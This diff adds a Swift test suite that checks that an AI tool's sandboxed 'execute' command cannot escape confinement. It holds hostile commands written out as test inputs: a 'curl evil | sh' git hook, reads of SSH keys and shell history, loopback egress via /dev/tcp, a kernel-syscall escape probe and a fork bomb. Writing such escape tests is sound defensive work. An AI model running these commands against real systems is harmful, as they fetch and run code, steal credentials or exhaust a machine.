@@ -1,0 +1,206 @@
+import Foundation
+import Sandbox
+import TestSupport
+import Testing
+@testable import Tools
+
+/// The escape suite: every attempt runs through `execute` in a confined session and must fail,
+/// leaving the host as it was.
+@Suite(.serialized) struct EscapeTests {
+    let scratch: Scratch
+    let session: Session
+
+    init() throws {
+        scratch = try Scratch()
+        session = try scratch.session()
+    }
+
+    private func run(_ command: String, timeout: Int = 20, in session: Session? = nil) async -> ToolResult {
+        await call("execute", ["command": .string(command), "timeout_seconds": .int(timeout)], in: session ?? self.session)
+    }
+
+    @Test func writesOutsideTheWorkspaceFail() async throws {
+        let outside = scratch.root + "/outside.txt"
+        let result = await run("touch /etc/toolhost-escape; touch /usr/toolhost-escape; echo x > \(outside); echo done")
+        #expect(result.text.contains("Read-only file system"))
+        #expect(!FileManager.default.fileExists(atPath: "/etc/toolhost-escape"))
+        #expect(!FileManager.default.fileExists(atPath: "/usr/toolhost-escape"))
+        #expect(!FileManager.default.fileExists(atPath: outside), "the host's /tmp is not the sandbox's")
+    }
+
+    @Test func writesThroughAPlantedSymlinkFail() async throws {
+        try FileManager.default.createDirectory(atPath: scratch.root + "/target", withIntermediateDirectories: true)
+        let result = await run("ln -s /etc/hostname host-link && echo pwned >> host-link; ln -s \(scratch.root)/target out && echo x > out/planted; echo done")
+        #expect(result.text.contains("Read-only file system"))
+        #expect(try String(contentsOfFile: "/etc/hostname", encoding: .utf8).contains("pwned") == false)
+        #expect(!FileManager.default.fileExists(atPath: scratch.root + "/target/planted"))
+    }
+
+    @Test func gitHooksAndConfigAreReadOnly() async throws {
+        try scratch.write(".git/hooks/README", "hooks\n")
+        try scratch.write(".git/config", "[core]\n")
+        try scratch.write(".git/HEAD", "ref: refs/heads/main\n")
+        let session = try scratch.session("git")
+        let result = await run(
+            "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[alias] x = !evil' >> .git/config; echo 'ref: refs/heads/work' > .git/HEAD; cat .git/HEAD",
+            in: session)
+        #expect(result.text.contains("Read-only file system"))
+        #expect(!FileManager.default.fileExists(atPath: scratch.workspacePath + "/.git/hooks/pre-commit"))
+        #expect(try scratch.read(".git/config") == "[core]\n")
+        #expect(try scratch.read(".git/HEAD") == "ref: refs/heads/work\n", "the rest of .git stays writable for git itself")
+    }
+
+    @Test func homeSecretsAndTheHostTmpAreInvisible() async throws {
+        let home = "/root/.toolhost-test-home-\(UInt32.random(in: 0...UInt32.max))"
+        try FileManager.default.createDirectory(atPath: home + "/.ssh", withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(atPath: home) }
+        try "SECRET-KEY".write(toFile: home + "/.ssh/id_rsa", atomically: true, encoding: .utf8)
+        let hostTmp = "/tmp/toolhost-host-secret-\(UInt32.random(in: 0...UInt32.max))"
+        try "HOST-TMP-SECRET".write(toFile: hostTmp, atomically: true, encoding: .utf8)
+        defer { try? FileManager.default.removeItem(atPath: hostTmp) }
+        let session = try scratch.session("secrets", host: ["PATH": "/usr/bin:/bin", "HOME": home])
+        let result = await run("cat ~/.ssh/id_rsa \(home)/.ssh/id_rsa \(hostTmp) /root/.bash_history 2>&1; ls -A /root; echo HOME=$HOME", in: session)
+        #expect(!result.text.contains("SECRET-KEY"))
+        #expect(!result.text.contains("HOST-TMP-SECRET"))
+        #expect(result.text.contains("HOME=/tmp/home"))
+    }
+
+    @Test func egressToTheHostLoopbackFails() async throws {
+        let listener = try LoopbackListener()
+        let result = await run(
+            "curl -sS -m 3 http://127.0.0.1:\(listener.port)/ 2>&1; (exec 3<>/dev/tcp/127.0.0.1/\(listener.port)) 2>&1; echo rc=$?")
+        #expect(result.text.contains("rc=1"))
+        #expect(!listener.hasPendingConnection, "nothing from the sandbox reached the host's listener")
+    }
+
+    @Test func aBackgroundServerIsReachableFromLaterCommandsOnly() async throws {
+        let port = Int.random(in: 20_000...40_000)
+        try scratch.write("index.html", "hello from the sandbox\n")
+        let started = await call(
+            "execute", ["command": .string("exec python3 -m http.server \(port) --bind 127.0.0.1"), "background": true], in: session)
+        #expect(!started.isError, "\(started.text)")
+        let fetched = await run("curl -sS -m 5 --retry 20 --retry-delay 0 --retry-connrefused http://127.0.0.1:\(port)/index.html")
+        #expect(fetched.text.hasPrefix("hello from the sandbox\n"))
+        #expect(LoopbackListener.canConnect(port: UInt16(port)) == false, "the host cannot reach the session's server")
+        await session.close()
+    }
+
+    @Test func theKernelAttackSurfaceIsClosed() async throws {
+        let probe = #"""
+            import ctypes, errno, fcntl, os, subprocess, termios
+            libc = ctypes.CDLL(None, use_errno=True)
+            def sys(name, number, *args):
+                r = libc.syscall(number, *args)
+                print(f"{name}={'ok' if r >= 0 else errno.errorcode[ctypes.get_errno()]}")
+            master, slave = os.openpty()
+            try:
+                fcntl.ioctl(slave, termios.TIOCSTI, b"x"); print("tiocsti=ok")
+            except OSError as e:
+                print(f"tiocsti={errno.errorcode[e.errno]}")
+            sys("ptrace", 101, 0, 0, 0, 0)
+            sys("mount", 165, b"none", b"/mnt", b"tmpfs", 0, 0)
+            sys("unshare", 272, 0x10000000)
+            sys("keyctl", 250, 0, 0, 0, 0)
+            sys("io_uring_setup", 425, 8, ctypes.create_string_buffer(120))
+            sys("bpf", 321, 0, 0, 0)
+            victim = subprocess.Popen(["sleep", "30"])
+            try:
+                open(f"/proc/{victim.pid}/mem", "wb"); print("procmem=ok")
+            except OSError as e:
+                print(f"procmem={errno.errorcode[e.errno]}")
+            victim.kill()
+            """#
+        try scratch.write("probe.py", probe)
+        let result = await run("python3 probe.py")
+        for line in ["tiocsti=EPERM", "ptrace=EPERM", "mount=EPERM", "unshare=EPERM", "keyctl=EPERM", "io_uring_setup=EPERM", "bpf=EPERM"] {
+            #expect(result.text.contains(line), "\(line) in \(result.text)")
+        }
+        #expect(result.text.contains("procmem=EROFS") || result.text.contains("procmem=EACCES"), "\(result.text)")
+        #expect(!result.text.contains("=ok"))
+    }
+
+    @Test func setuidGainsNothingAndSeccompIsInForce() async throws {
+        let result = await run("grep -E '^(NoNewPrivs|Seccomp|CapEff|CapBnd):' /proc/self/status")
+        #expect(result.text.contains("NoNewPrivs:\t1"))
+        #expect(result.text.contains("Seccomp:\t2"))
+        #expect(result.text.contains("CapEff:\t0000000000000000"))
+        #expect(result.text.contains("CapBnd:\t0000000000000000"))
+    }
+
+    @Test func onlyTheSandboxesOwnProcessesAreVisible() async throws {
+        let result = await run("ls /proc | grep -cE '^[0-9]+$'; test -e /proc/\(getpid()) && echo host-visible; echo pid=$$")
+        let count = Int(result.text.split(separator: "\n").first ?? "") ?? 999
+        #expect(count < 10)
+        #expect(!result.text.contains("host-visible"))
+        #expect(result.text.contains("pid=1"))
+    }
+
+    @Test func aForkBombIsContained() async throws {
+        let session = try scratch.session("bomb", profile: "strict")
+        let marker = "bomb-\(UInt32.random(in: 0...UInt32.max))"
+        let bomb = "b(){ b | b & }; b; sleep 10 # \(marker)"
+        let started = ContinuousClock.now
+        let result = await run(bomb, timeout: 3, in: session)
+        #expect(ContinuousClock.now - started < .seconds(30))
+        #expect(result.structured?["timed_out"] == true)
+        #expect(allGone(withArgument: bomb), "no bomb process survives the call")
+        let after = await run("echo still-fine", in: session)
+        #expect(after.text.hasPrefix("still-fine\n"))
+    }
+
+    @Test func aProfileRequiringAMissingMechanismRefusesWithTheReason() throws {
+        var profile = try SandboxProfile.load("default")
+        profile.requires.append(.userNamespace)
+        let mechanisms = Mechanisms.probe(environment: [Mechanisms.simulateVariable: "user_namespace"])
+        #expect {
+            try ConfinedRunner(profile: profile, workspace: scratch.workspacePath, stateDirectory: scratch.statePath, host: [:], mechanisms: mechanisms)
+        } throws: { error in
+            "\(error)".contains("profile default requires user_namespace, which this machine does not allow: simulated")
+        }
+    }
+}
+
+/// A TCP listener on the host's 127.0.0.1 that never accepts, so a connection that reached it waits in its backlog.
+final class LoopbackListener {
+    let fd: Int32
+    let port: UInt16
+
+    init() throws {
+        let socketFD = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
+        var address = sockaddr_in()
+        address.sin_family = sa_family_t(AF_INET)
+        address.sin_addr.s_addr = inet_addr("127.0.0.1")
+        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
+        let bound = withUnsafeMutablePointer(to: &address) {
+            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
+                bind(socketFD, $0, length) == 0 && listen(socketFD, 16) == 0 && getsockname(socketFD, $0, &length) == 0
+            }
+        }
+        guard bound else {
+            close(socketFD)
+            throw POSIXError(.EADDRINUSE)
+        }
+        fd = socketFD
+        port = UInt16(bigEndian: address.sin_port)
+    }
+
+    deinit { close(fd) }
+
+    var hasPendingConnection: Bool {
+        var entry = pollfd(fd: fd, events: Int16(POLLIN), revents: 0)
+        return poll(&entry, 1, 100) > 0
+    }
+
+    /// Whether something on the host's loopback accepts connections on `port`.
+    static func canConnect(port: UInt16) -> Bool {
+        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
+        defer { close(fd) }
+        var address = sockaddr_in()
+        address.sin_family = sa_family_t(AF_INET)
+        address.sin_addr.s_addr = inet_addr("127.0.0.1")
+        address.sin_port = port.bigEndian
+        return withUnsafePointer(to: &address) {
+            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) == 0 }
+        }
+    }
+}
